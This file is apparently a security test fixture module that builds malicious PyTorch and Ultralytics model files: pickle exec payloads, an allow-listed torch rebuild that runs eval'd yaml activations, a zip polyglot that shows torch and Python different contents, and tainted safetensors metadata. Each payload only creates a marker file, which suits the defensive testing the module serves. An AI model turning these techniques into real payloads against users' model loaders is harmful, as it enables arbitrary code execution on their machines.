"""Files an attacker would hand us: each runs ``open(marker, "w")`` when read the way the pre-reader loader read it.

1. ``rebuild_from_type``: ``torch._tensor._rebuild_from_type_v2`` (on torch's own weights_only list) calls its first
   argument; given ``DetectionModel`` and a yaml, ultralytics' ``parse_model`` ``eval``s the yaml's activation.
2. ``two_views``: one file, two zip archives: Python's ``zipfile`` (which compensates for bytes in front of an
   archive) reads a clean checkpoint, torch's reader (which takes the central-directory offset literally) a call of
   ``DetectionModel(evil_yaml)``.
3. ``nested_yaml``: a checkpoint whose model yaml has a layer ``DetectionModel`` with a nested yaml argument: rebuilding
   the model (a new head, the detection probe, ``YOLO(out).train``) evaluates the nested activation.
4. ``evil_backbone_file``: a ``backbone.safetensors`` whose ``student_yaml`` metadata carries the activation.
5. ``evil_model_yaml``: a model ``.yaml`` file with the activation.
Plus ``exec_payload``: the classic ``__reduce__`` -> ``exec``.
"""

from __future__ import annotations

import copy
import io
import json
import struct
import zipfile
from pathlib import Path
from typing import Any

import torch
import yaml


def payload_code(marker: Path) -> str:
    """An activation spec that creates ``marker`` when ``eval``ed and still returns a working activation."""
    return f"open({str(marker)!r}, 'w').close() or __import__('torch').nn.SiLU()"


def evil_cfg(marker: Path) -> dict[str, Any]:
    """A tiny yolov8-style detect yaml whose activation runs the payload."""
    return {
        "nc": 1,
        "activation": payload_code(marker),
        "backbone": [[-1, 1, "Conv", [8, 3, 2]], [-1, 1, "Conv", [16, 3, 2]]],
        "head": [[[0, 1], 1, "Detect", ["nc"]]],
    }


class ExecPayload:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return exec, (f"open({str(self.marker)!r}, 'w').close()",)


class RebuildFromTypePayload:
    """``_rebuild_from_type_v2(DetectionModel, ..., (cfg,), state)``: torch's allow-listed rebuild calls the class."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        from ultralytics.nn.tasks import DetectionModel

        # new_type=DetectionModel skips the as_subclass step; the state blanks the built model's yaml so that a
        # check of the loaded model's yaml afterwards finds nothing
        state = {"yaml": {}}
        return torch._tensor._rebuild_from_type_v2, (DetectionModel, DetectionModel, (evil_cfg(self.marker),), state)


class ConstructorPayload:
    """``DetectionModel(evil_cfg)`` as a plain REDUCE."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        from ultralytics.nn.tasks import DetectionModel

        return DetectionModel, (evil_cfg(self.marker),)


def load_full(clean: Path) -> dict[str, Any]:
    return torch.load(clean, map_location="cpu", weights_only=False)


def exec_payload(clean: Path, marker: Path, out: Path) -> Path:
    torch.save({**load_full(clean), "payload": ExecPayload(marker)}, out)
    return out


def rebuild_from_type(clean: Path, marker: Path, out: Path) -> Path:
    torch.save({**load_full(clean), "x": RebuildFromTypePayload(marker)}, out)
    return out


def nested_yaml(clean: Path, marker: Path, out: Path) -> Path:
    """The clean checkpoint with one extra head layer ``DetectionModel(<evil yaml>)`` appended before Detect."""
    ckpt = load_full(clean)
    cfg = copy.deepcopy(ckpt["model"].yaml)
    # Detect's inputs are absolute layer indices, so a layer inserted before it changes nothing else
    cfg["head"].insert(len(cfg["head"]) - 1, [0, 1, "DetectionModel", [evil_cfg(marker)]])
    ckpt["model"].yaml = cfg
    torch.save(ckpt, out)
    return out


def _split(archive: bytes) -> tuple[bytes, bytes, int]:
    """``(local records, central directory, entry count)`` of a zip written in one piece."""
    eocd = archive.rindex(b"PK\x05\x06")
    count, size, offset = struct.unpack("<HII", archive[eocd + 10 : eocd + 20])
    return archive[:offset], archive[offset : offset + size], count


def _zip(records: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in records.items():
            z.writestr(name, data)
    return buf.getvalue()


def two_views(clean: Path, marker: Path, out: Path) -> Path:
    """Python's zipfile reads ``clean``'s records; torch's reader reads the same records with an evil ``data.pkl``."""
    with zipfile.ZipFile(clean) as z:
        records = {n: z.read(n) for n in z.namelist()}
    pkl = next(n for n in records if n.endswith("/data.pkl"))
    evil = {**records, pkl: _evil_pickle(marker)}
    pad = len(records[pkl]) - len(evil[pkl])  # both local regions must have one length: pad after STOP
    if pad < 0:
        records[pkl] += b"\0" * -pad
    else:
        evil[pkl] += b"\0" * pad
    torch_local, torch_cd, count = _split(_zip(evil))
    py_local, py_cd, count2 = _split(_zip(records))
    assert len(torch_local) == len(py_local) and len(torch_cd) == len(py_cd) and count == count2
    # torch reads the directory at the literal offset (the first one); Python finds the second one at the end and
    # shifts every offset in it by the bytes in front (= the first archive)
    body = torch_local + torch_cd + py_local + py_cd
    eocd = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(py_cd), len(torch_local), 0)
    out.write_bytes(body + eocd)
    return out


def _evil_pickle(marker: Path) -> bytes:
    buf = io.BytesIO()
    import pickle

    pickle.dump({"model": ConstructorPayload(marker)}, buf, protocol=2)
    return buf.getvalue()


def evil_backbone_file(backbone: Path, marker: Path, out: Path) -> Path:
    """A backbone file whose ``student_yaml`` metadata runs the payload when a model is built from it."""
    from safetensors import safe_open
    from safetensors.torch import save_file

    with safe_open(str(backbone), framework="pt") as f:
        meta = dict(f.metadata())
        tensors = {k: f.get_tensor(k) for k in f.keys()}  # noqa: SIM118
    student = json.loads(meta["student_yaml"])
    student["activation"] = payload_code(marker)
    meta["student_yaml"] = json.dumps(student)
    save_file(tensors, str(out), metadata=meta)
    return out


def evil_model_yaml(marker: Path, out: Path) -> Path:
    from ultralytics.nn.tasks import yaml_model_load

    cfg = yaml_model_load("yolov8n.yaml")
    cfg["activation"] = payload_code(marker)
    out.write_text(yaml.safe_dump(cfg), encoding="utf-8")
    return out
